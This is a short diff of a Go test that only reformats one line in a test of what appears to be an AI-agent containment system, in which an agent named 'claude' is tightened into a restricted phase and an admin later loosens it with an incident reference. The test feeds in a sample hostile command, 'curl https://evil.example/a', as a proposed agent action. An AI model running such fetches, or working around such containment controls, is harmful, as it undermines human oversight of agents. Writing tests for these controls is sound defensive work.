@@ -195,7 +195,8 @@ func TestExplained(t *testing.T) {
 	h.employ("adam", "admin")
 	h.works(14)
 	h.propose("curl https://evil.example/a")
-	h.tighten(containment.Tightening{Scope: ledger.HoldAgent, Key: "claude", To: phase.Alternate, Trigger: phase.TriggerSignal, Why: "odd"})
+	h.tighten(containment.Tightening{Scope: ledger.HoldAgent, Key: "claude", To: phase.Alternate, Trigger: phase.TriggerSignal,
+		Why: "odd"})
 	if err := h.moves(interlock.VerbLoosenPhase, "agent:claude", "P proof=INC-7", "adam"); err != nil {
 		t.Fatal(err)
 	}
